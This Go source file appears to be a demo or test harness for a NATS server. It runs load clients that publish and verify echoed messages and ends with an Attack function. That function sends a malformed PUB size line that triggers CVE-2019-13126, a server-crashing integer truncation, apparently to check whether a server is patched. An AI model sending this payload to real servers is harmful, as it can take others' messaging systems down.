package demo

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// A client speaks the text protocol of NATS (docs.nats.io, "Client Protocol"):
// it subscribes to a subject of its own and gets back what it publishes there.
type client struct {
	conn    net.Conn
	in      *bufio.Reader
	subject string
	sent    int
}

// replyTimeout is how long a client waits for its message before it counts as lost.
const replyTimeout = 5 * time.Second

func dial(ctx context.Context, addr, subject string) (*client, error) {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &client{conn: conn, in: bufio.NewReader(conn), subject: subject}
	if err := c.handshake(); err != nil {
		conn.Close()
		return nil, fmt.Errorf("greeting %s: %w", addr, err)
	}
	return c, nil
}

func (c *client) handshake() error {
	c.conn.SetDeadline(time.Now().Add(replyTimeout))
	if line, err := c.line(); err != nil || !strings.HasPrefix(line, "INFO ") {
		return fmt.Errorf("got %q instead of INFO: %w", line, orEOF(err))
	}
	_, err := fmt.Fprintf(c.conn, "CONNECT {\"verbose\":false,\"pedantic\":false}\r\nSUB %s 1\r\nPING\r\n", c.subject)
	if err != nil {
		return err
	}
	if line, err := c.line(); err != nil || line != "PONG" {
		return fmt.Errorf("got %q instead of PONG: %w", line, orEOF(err))
	}
	return nil
}

func orEOF(err error) error {
	if err == nil {
		return io.ErrUnexpectedEOF
	}
	return err
}

func (c *client) line() (string, error) {
	s, err := c.in.ReadString('\n')
	return strings.TrimRight(s, "\r\n"), err
}

// roundTrip publishes one message and checks that exactly it comes back.
func (c *client) roundTrip() error {
	c.sent++
	payload := fmt.Sprintf("%s message %d %s", c.subject, c.sent, strings.Repeat("x", c.sent%512))
	c.conn.SetDeadline(time.Now().Add(replyTimeout))
	if _, err := fmt.Fprintf(c.conn, "PUB %s %d\r\n%s\r\n", c.subject, len(payload), payload); err != nil {
		return err
	}
	line, err := c.line()
	for err == nil && line == "PING" {
		if _, err = io.WriteString(c.conn, "PONG\r\n"); err == nil {
			line, err = c.line()
		}
	}
	if err != nil {
		return err
	}
	if want := fmt.Sprintf("MSG %s 1 %d", c.subject, len(payload)); line != want {
		return fmt.Errorf("message %d: got %q, want %q", c.sent, line, want)
	}
	body := make([]byte, len(payload)+2)
	if _, err := io.ReadFull(c.in, body); err != nil {
		return err
	}
	if string(body) != payload+"\r\n" {
		return fmt.Errorf("message %d: other content came back", c.sent)
	}
	return nil
}

// A Load is clients that publish and check without pause.
type Load struct {
	cancel context.CancelFunc
	wg     sync.WaitGroup

	mu      sync.Mutex
	checked int
	longest time.Duration
	failed  []error
	clients int
}

// LoadStats is what the clients of a Load have seen.
type LoadStats struct {
	Clients int           // that were started
	Checked int           // messages published, received and compared
	Failed  []error       // one for each client that had to stop
	Longest time.Duration // the longest any client waited for a message
}

// StartLoad connects n clients to the server at addr and keeps them busy until Stop.
func StartLoad(ctx context.Context, addr string, n int) (*Load, error) {
	ctx, cancel := context.WithCancel(ctx)
	l := &Load{cancel: cancel, clients: n}
	for i := range n {
		c, err := dial(ctx, addr, fmt.Sprintf("demo.client.%d", i))
		if err != nil {
			l.Stop()
			return nil, err
		}
		l.wg.Add(1)
		go l.run(ctx, c)
	}
	return l, nil
}

func (l *Load) run(ctx context.Context, c *client) {
	defer l.wg.Done()
	defer c.conn.Close()
	for ctx.Err() == nil {
		begun := time.Now()
		err := c.roundTrip()
		if !l.note(time.Since(begun), err) {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

func (l *Load) note(took time.Duration, err error) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	if err != nil {
		l.failed = append(l.failed, err)
		return false
	}
	l.checked++
	l.longest = max(l.longest, took)
	return true
}

// Stats returns what the clients have seen so far.
func (l *Load) Stats() LoadStats {
	l.mu.Lock()
	defer l.mu.Unlock()
	return LoadStats{Clients: l.clients, Checked: l.checked, Failed: append([]error(nil), l.failed...), Longest: l.longest}
}

// Stop ends the clients and returns what they have seen.
func (l *Load) Stop() LoadStats {
	l.cancel()
	l.wg.Wait()
	return l.Stats()
}

// attackLine is CVE-2019-13126: a size of 2^62 becomes 0 when cut to 32 bits
// for one check, and is too large for the allocation that follows.
const attackLine = "PUB a 4611686018427387904\r\n"

// Attack sends one malformed PUB. It returns nil when the server closed the
// attacker's connection, which both a guarded and a dying server do.
func Attack(ctx context.Context, addr string) error {
	c, err := dial(ctx, addr, "demo.attacker")
	if err != nil {
		return err
	}
	defer c.conn.Close()
	c.conn.SetDeadline(time.Now().Add(replyTimeout))
	if _, err := io.WriteString(c.conn, attackLine+"xx"); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, c.in)
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		return fmt.Errorf("the server kept the attacker's connection open for %s", replyTimeout)
	}
	return nil
}
